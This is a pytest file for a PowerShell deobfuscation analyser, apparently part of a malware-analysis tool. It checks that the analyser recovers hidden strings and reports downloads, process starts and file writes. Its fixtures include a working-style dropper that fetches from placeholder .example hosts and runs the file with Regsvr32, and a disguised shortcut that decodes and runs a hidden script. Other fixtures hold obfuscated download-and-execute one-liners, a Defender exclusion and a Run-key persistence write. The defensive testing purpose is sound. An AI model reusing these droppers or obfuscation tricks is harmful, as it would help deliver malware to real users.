"""PowerShell with its disguise taken off."""

import base64
import gzip
import random
import zlib

import pytest

from sekisho.analyzers._powershell_script import decode_command, unfold_powershell
from sekisho.analyzers._script import FEATURES
from sekisho.analyzers.powershell import analyze, recognise
from sekisho.model.artifact import Artifact, Feature
from sekisho.model.errors import LimitError, MalformedError

DROPPER = (
    '$ProgressPreference="SilentlyContinue";$links=('
    + ",".join(f'"http://{letter}.example/{letter}/"' for letter in "abcdef")
    + ");foreach($u in $links){try{IWR $u -OutFile $env:TEMP/X.yyy;Regsvr32.exe $env:TEMP/X.yyy;break}catch{}}"
)
SHORTCUT = (
    'powershell.exe -command Out-String -InputObject "Invoice for payment.lnk' + " " * 110 + '" | Out-Null; '
    "[System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String('"
    + base64.b64encode(DROPPER.encode()).decode()
    + '\')) > "%TEMP%\\sNhYaMMPOU.ps1"; powershell -executionpolicy bypass -file "$env:TEMP/\\sNhYaMMPOU.ps1"; '
    'Remove-Item -Force "%TEMP%\\sNhYaMMPOU.ps1"'
)


def packed(data):
    return base64.b64encode(data).decode()


GZIP = packed(gzip.compress(b"IWR http://203.0.113.7/a"))
DEFLATE = packed(zlib.compress(b"IWR http://203.0.113.8/a", 9)[2:-4])
TEXTS = [
    ("'a'+'b'+\"c\"", "'abc'", "concat"),
    ("\"{1}{0}\" -f 'b','a'", "'ab'", "format-operator"),
    ("$PSHome[4]+$PSHome[30]+'x'", "'iex'", "concat"),
    ("$ShellId[1]+$ShellId[13]+'x'", "'iex'", "concat"),
    ("$env:ComSpec[4,24,25]-join''", "'iex'", "join"),
    ("(gv '*mdr*').Name[3,11,2]-join''", "'iex'", "join"),
    ("'xei'[-1..-3] -join ''", "'iex'", "join"),
    ("-join('69 65 78'.split(' ')|%{[char][convert]::ToInt32($_,16)})", "'iex'", "char-code"),
    ("[string]::join('',(105,101,120|%{[char]$_}))", "'iex'", "char-code"),
    ("[char]105+[char]0x65+[char]120", "'iex'", "char-code"),
    ("([char[]](105,101) -join '')+'x'", "'iex'", "char-code"),
    ("'abcXXX'.Replace('XXX','def') -replace 'abc','z'", "'zdef'", "replace"),
    ("('i e x' -split ' ') -join ''", "'iex'", "split"),
    ("( [regex]::Matches('xei','.','RightToLeft')|%{$_.value}) -join ''", "'iex'", "reverse"),
    ("[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aQBlAHgA'))", "'iex'", "base64"),
    ("[string]::Concat('i','e','x')", "'iex'", ""),
    ("'zziexzz'.Substring(2,3)", "'iex'", "substring"),
    ("(104,100,121|%{[char]($_ -bxor 1)}) -join ''", "'iex'", "xor"),
    ("$a='i';$b=\"$($a)ex\";$b", "$a='i';$b='iex';'iex'", ""),
]


@pytest.mark.parametrize(("script", "text", "trick"), TEXTS)
def test_text_comes_out(script, text, trick):
    unfolded = unfold_powershell(script)
    assert unfolded.text.strip("() ") == text
    assert not trick or trick in unfolded.tricks


CALLS = [
    (
        "$a='http:';$b='//a.example/';(New-Object Net.WebClient).DownloadFile($a+$b,\"$env:TEMP\\x.exe\")",
        "downloads http://a.example/ to $env:TEMP\\x.exe",
    ),
    ("(N`ew-O`bject N`et.We`bClient).\"Down`loadString\"('http://x.example/')|I`EX", "downloads http://x.example/"),
    ("(New-Object Net.WebClient).('Down'+'loadString').Invoke('http://x.example/')", "downloads http://x.example/"),
    ("iex(iwr('http://a.example/s'))", "downloads http://a.example/s"),
    (
        "Start-BitsTransfer -Source http://a.example/f -Destination C:\\f.exe",
        "downloads http://a.example/f to C:\\f.exe",
    ),
    ("Invoke-WebRequest -Uri 'http://a.example/' -UseBasicParsing -OutFile C:\\x", "writes C:\\x"),
    ("Start-Process -FilePath C:\\x.exe -ArgumentList '-a','b'", "starts C:\\x.exe -a b"),
    ("rundll32 C:\\f.dll,Run", "starts rundll32 C:\\f.dll,Run"),
    ("& 'C:\\Program Files\\a.exe' -x", 'starts "C:\\Program Files\\a.exe" -x'),
    ("[Diagnostics.Process]::Start('cmd.exe','/c calc')", "starts cmd.exe /c calc"),
    ("[IO.File]::WriteAllBytes('C:\\a.bin',[byte[]](1,2))", "writes C:\\a.bin"),
    ("'text' | Out-File C:\\a.txt", "writes C:\\a.txt"),
    ("'text' > C:\\a.txt", "writes C:\\a.txt"),
    ("('{0}://{1}' -f 'http','a.example/z') | % { iwr $_ -o 'C:\\z' }", "downloads http://a.example/z to C:\\z"),
    ("Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'calc.exe'", "starts calc.exe"),
    ("Add-MpPreference -ExclusionPath C:\\", "changes Microsoft Defender: -ExclusionPath C:\\"),
    ("Set-ItemProperty -Path HKCU:\\Run -Name a -Value b", "writes HKCU:\\Run\\a"),
    ("if ($x) { iwr http://a.example/ } else { ii C:\\a.exe }", "starts C:\\a.exe"),
    ("try{iwr http://a.example/}catch{saps calc.exe}", "starts calc.exe"),
    ("function f { iwr http://a.example/f }; f", "downloads http://a.example/f"),
    ('powershell -c "&{ iwr http://a.example/ }"', "downloads http://a.example/"),
    (
        'powershell $a="$b=\\"http://a.example/,http://b.example/\\".Split(\\",\\");foreach($c in $b){iwr $c}";',
        "downloads http://b.example/",
    ),
    ("powershell -enc $a='http://a.example/';iwr $a", "downloads http://a.example/"),
    ("$w=New-Object -ComObject WScript.Shell;$w.Run('calc.exe')", "starts calc.exe"),
]


@pytest.mark.parametrize(("script", "call"), CALLS)
def test_what_it_does(script, call):
    assert call in unfold_powershell(script).calls


@pytest.mark.parametrize(
    ("script", "layer"),
    [
        ("&('i'+'ex') 'calc.exe'", b"calc.exe"),
        (".($PSHome[4]+$PSHome[30]+'x') 'calc.exe'", b"calc.exe"),
        ("'calc.exe' | iex", b"calc.exe"),
        ("sal aa Invoke-Expression; aa 'start calc'", b"start calc"),
        ("$x='XEI'.ToCharArray();[array]::Reverse($x);& (-join $x) 'calc.exe'", b"calc.exe"),
        ("Set-Item Variable:x 'calc.exe'; iex $x", b"calc.exe"),
        (
            "IEX (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::"
            f"FromBase64String('{GZIP}'),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()",
            b"IWR http://203.0.113.7/a",
        ),
        (
            "IEX $(New-Object IO.StreamReader ($(New-Object IO.Compression.DeflateStream ($(New-Object IO.MemoryStream "
            f"(,$([Convert]::FromBase64String('{DEFLATE}')))), [IO.Compression.CompressionMode]::Decompress)), "
            "[Text.Encoding]::ASCII)).ReadToEnd();",
            b"IWR http://203.0.113.8/a",
        ),
        (
            "$b=[byte[]](0x50,0x40);for($i=0;$i -lt $b.Length;$i++){$b[$i]=$b[$i] -bxor 35}; [IO.File]::WriteAllBytes('C:\\a',$b)",
            b"sc",
        ),
        ("$s=@'\nhello 'there'\n'@; iex $s", b"hello 'there'"),
        (
            "function d($a){$k=5;$r=$null;foreach($i in $a){$r+=[char]($i-$k)};return $r}"
            "sal x (d @(110,106,125));x((d @(104,102,113,104)))",
            b"calc",
        ),
    ],
)
def test_layers_come_out(script, layer):
    assert layer in [found.data for found in unfold_powershell(script).layers]


@pytest.mark.parametrize("option", ["-e", "-EN", "-enc", "-eNcOd", "-EncodedCommand", "/e", "-ec", "-E`NC", "\u2013e"])
def test_encoded_commands_of_every_spelling(option):
    text = packed("iwr http://a.example/".encode("utf-16-le"))
    unfolded = unfold_powershell(f"powershell.exe -NoP -sta -w 1 {option} {text}")
    assert unfolded.layers[0].data == b"iwr http://a.example/"
    assert unfolded.urls[0].hidden_by == "base64"


def test_encoded_command_in_utf_8():
    assert decode_command(packed(b"iwr http://a.example/")) == "iwr http://a.example/"
    assert decode_command("!!") == ""


def test_the_shortcut_that_writes_a_script_and_runs_it():
    first = next(layer for layer in unfold_powershell(SHORTCUT).layers if layer.name == "sNhYaMMPOU.ps1")
    assert (first.kind, first.data) == ("powershell", DROPPER.encode())
    outer = unfold_powershell(SHORTCUT)
    assert "writes %TEMP%\\sNhYaMMPOU.ps1" in outer.calls
    assert {url.host for url in outer.urls} == {f"{letter}.example" for letter in "abcdef"}
    assert {url.hidden_by for url in outer.urls} == {"base64"}
    inner = unfold_powershell(first.data.decode())
    assert [call for call in inner.calls if call.startswith("downloads")] == [
        f"downloads http://{letter}.example/{letter}/ to $env:TEMP/X.yyy" for letter in "abcdef"
    ]
    assert "starts Regsvr32.exe $env:TEMP/X.yyy" in inner.calls
    assert len(inner.urls) == 6


@pytest.mark.parametrize(
    "script",
    [
        "Get-ChildItem C:\\ | Where-Object {$_.Length -gt 5} | Select-Object Name",
        "Write-Host 'hello'",
        "$x = Get-Date\nif ($x) { Write-Output $x }",
        "param([string]$Name)\nWrite-Verbose $Name",
        "",
    ],
)
def test_plain_scripts_stay_as_they_are(script):
    unfolded = unfold_powershell(script)
    assert (unfolded.text, unfolded.tricks, unfolded.calls) == (script, (), ())


def test_the_analyser_declares_what_it_yields():
    found = list(analyze(Artifact("a.ps1", SHORTCUT.encode(), "a.ps1")))
    assert {item.name for item in found if isinstance(item, Feature)} <= set(FEATURES)
    children = [item for item in found if isinstance(item, Artifact)]
    assert (children[0].name, children[0].kind, children[0].relation) == ("sNhYaMMPOU.ps1", "powershell", "decoded")


@pytest.mark.parametrize(
    ("name", "data", "is_script"),
    [
        ("x", DROPPER.encode(), True),
        ("x", DROPPER.encode("utf-16"), True),
        ("a.ps1", b"Write-Host hi", True),
        ("a.txt", b"The price is $5 - or $6 with tax.", False),
        ("a.php", b"<?php $a = 1; foreach ($b as $c) { echo $_GET['x']; }", False),
        ("a.sh", b"#!/bin/sh\nx=$1\necho $x -f\n", False),
        ("a.js", b"var $a = 1; function f() { return $a; }", False),
        ("a.bin", bytes(100), False),
        ("x", b"<# notes #>\n" + DROPPER.encode(), True),
        ("mail.eml", b"From: a@partner.example\nSubject: log\n\n" + DROPPER.encode(), False),
        ("page.html", b"<html><body>" + DROPPER.encode(), False),
    ],
)
def test_recognised_by_content(name, data, is_script):
    assert recognise(Artifact(name, data, name)) is is_script


@pytest.mark.parametrize(
    "text",
    [
        "(" * 50_000,
        "$(" * 20_000,
        "{" * 50_000,
        "@(" * 9_000 + "1",
        "'a'+" * 30_000,
        "[char]" * 9_000 + "1",
        '"$(' * 9_000,
    ],
)
def test_depth_and_length_are_bounded(text):
    unfold_powershell(text)


def test_growing_text_is_bounded():
    assert unfold_powershell("$a='" + "x" * 1_000 + "';" + "$a=$a+$a;" * 60 + "iex $a").cut in ("", "text_chars")
    assert len(unfold_powershell("'a'*1000000000").text) < 100
    bomb = packed(gzip.compress(bytes(60_000_000)))
    script = f"(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('{bomb}'),0))|iex"
    assert all(len(layer.data) <= 4_000_000 for layer in unfold_powershell(script).layers)


def test_mutations_raise_nothing_else():
    rng = random.Random(6)
    seeds = [SHORTCUT, DROPPER] + [script for script, *_ in TEXTS + CALLS]
    pieces = [
        "$(",
        "@(",
        "{",
        "}",
        ")",
        "'",
        '"',
        "`",
        "-join",
        "-f",
        "|",
        "%",
        "[char]",
        "foreach($a in ",
        "..",
        ",",
        "\ud800",
        "あ",
    ]
    for _ in range(500):
        text = list(rng.choice(seeds))
        for _ in range(rng.randint(1, 7)):
            at = rng.randint(0, len(text))
            text[at : at + rng.randint(0, 5)] = rng.choice(pieces)
        try:
            list(analyze(Artifact("a.ps1", "".join(text).encode("utf-8", "replace"), "a.ps1")))
        except (MalformedError, LimitError):
            continue
